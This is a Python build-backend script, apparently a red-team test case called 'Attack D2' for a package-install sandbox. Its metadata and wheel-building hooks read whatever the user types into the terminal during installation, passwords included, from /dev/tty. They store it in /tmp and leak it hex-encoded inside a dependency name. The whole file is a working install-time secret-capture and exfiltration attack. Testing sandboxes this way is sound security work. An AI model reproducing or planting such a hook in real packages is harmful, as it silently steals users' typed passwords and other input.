# Attack D2: what the user types while the install runs (type-ahead meant
# for the shell, a password typed for a prompt) goes into the command's
# pseudo-terminal, and any jail process can read it from /dev/tty (the
# build profile allows /dev/tty).  The build reads it and sends it out
# (hex, in a dependency name).
import os, select, sys, time
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-tty-read", "1.0"
_got = []

def _read():
    if _got:
        return _got[0]
    if os.path.exists("/tmp/rt1tty.txt"):       # build_wheel: a new process
        _got.append(open("/tmp/rt1tty.txt").read())
        return _got[0]
    data = b""
    try:
        fd = os.open("/dev/tty", os.O_RDONLY | os.O_NONBLOCK)
        end = time.time() + 8
        while time.time() < end and b"\n" not in data and b"\r" not in data:
            r, _, _ = select.select([fd], [], [], 0.2)
            if r:
                try:
                    data += os.read(fd, 256)
                except BlockingIOError:
                    pass
    except OSError as e:
        data = ("err" + type(e).__name__).encode()
    _got.append(data.strip().hex() or "nothing")
    open("/tmp/rt1tty.txt", "w").write(_got[0])
    return _got[0]

def prepare_metadata_for_build_wheel(md_dir, config_settings=None):
    return wheelkit.write_metadata(md_dir, NAME, VER, ["rt1t-" + _read()])

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {"rt1_tty_read.py": b""}, ["rt1t-" + _read()])
